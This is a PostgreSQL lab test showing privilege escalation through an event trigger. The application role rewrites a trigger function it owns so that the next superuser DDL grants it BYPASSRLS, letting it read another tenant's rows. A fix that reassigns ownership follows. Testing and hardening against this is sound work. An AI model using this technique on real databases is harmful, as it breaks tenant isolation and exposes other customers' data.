-- an event trigger calls a function that the application role owns: it runs as whoever makes a table

--- setup
CREATE SCHEMA plugins; GRANT USAGE, CREATE ON SCHEMA plugins TO rls_app;
CREATE FUNCTION plugins.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$; ALTER FUNCTION plugins.on_ddl() OWNER TO rls_app;
CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION plugins.on_ddl();

--- attack
--- as rls_app
CREATE OR REPLACE FUNCTION plugins.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE rls_app BYPASSRLS; EXCEPTION WHEN OTHERS THEN NULL; END $$;
--- as postgres
CREATE TABLE lab.anything();
DROP TABLE lab.anything;
--- as rls_app
SET app.tenant_id='1';
SELECT lab.v(lab.n('select 1 from app.project where tenant_id=2')>0,'BYPASSRLS by the next CREATE TABLE of a superuser');
--- as postgres
ALTER ROLE rls_app NOBYPASSRLS;

--- fix
ALTER FUNCTION plugins.on_ddl() OWNER TO rls_owner; REVOKE CREATE ON SCHEMA plugins FROM rls_app;
